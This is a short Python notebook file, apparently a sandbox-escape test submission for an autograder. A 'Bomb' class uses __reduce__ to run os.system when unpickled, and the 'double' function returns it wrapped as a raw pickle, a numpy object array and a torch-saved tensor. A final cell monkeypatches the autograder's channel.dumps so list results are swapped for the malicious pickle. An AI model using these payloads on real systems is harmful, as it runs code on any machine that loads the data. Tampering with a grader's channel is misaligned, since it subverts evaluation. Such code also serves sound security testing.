# %% [markdown]
# Sends pickles, npz archives and saved tensors that run a command when they are opened.

# %% double
import io
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/@TOKEN@",)


def double(x):
    buffer = io.BytesIO()
    np.save(buffer, np.array([Bomb()], dtype=object), allow_pickle=True)
    saved = io.BytesIO()
    torch.save({"x": Bomb()}, saved, pickle_protocol=2)
    return [pickle.dumps(Bomb()), buffer.getvalue(), saved.getvalue()]


# %%
import autograder.channel as channel

old = channel.dumps
channel.dumps = lambda value, *a, **k: pickle.dumps(Bomb()) if isinstance(value, list) else old(value, *a, **k)
